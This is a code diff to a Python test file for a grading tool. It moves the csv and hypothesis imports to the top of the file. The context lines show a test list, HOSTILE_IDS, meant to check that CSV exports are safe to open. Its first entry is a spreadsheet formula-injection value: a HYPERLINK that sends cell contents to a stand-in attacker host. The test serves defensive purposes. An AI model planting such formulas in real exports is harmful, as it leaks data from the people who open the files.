@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
 import json
 import time
@@ -10,6 +11,8 @@ from pathlib import Path
 
 import gradingkit as kit
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from llmfs.cli import main as llmfs_main
 from llmfs.course import CourseError
@@ -267,11 +270,6 @@ def test_a_rerun_skips_what_is_graded_unless_the_file_or_the_settings_change(
 
 
 # -- exports that are safe to open, whatever the ids -------------------------------------------
-
-import csv  # noqa: E402
-
-from hypothesis import given, settings  # noqa: E402
-from hypothesis import strategies as st  # noqa: E402
 
 HOSTILE_IDS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
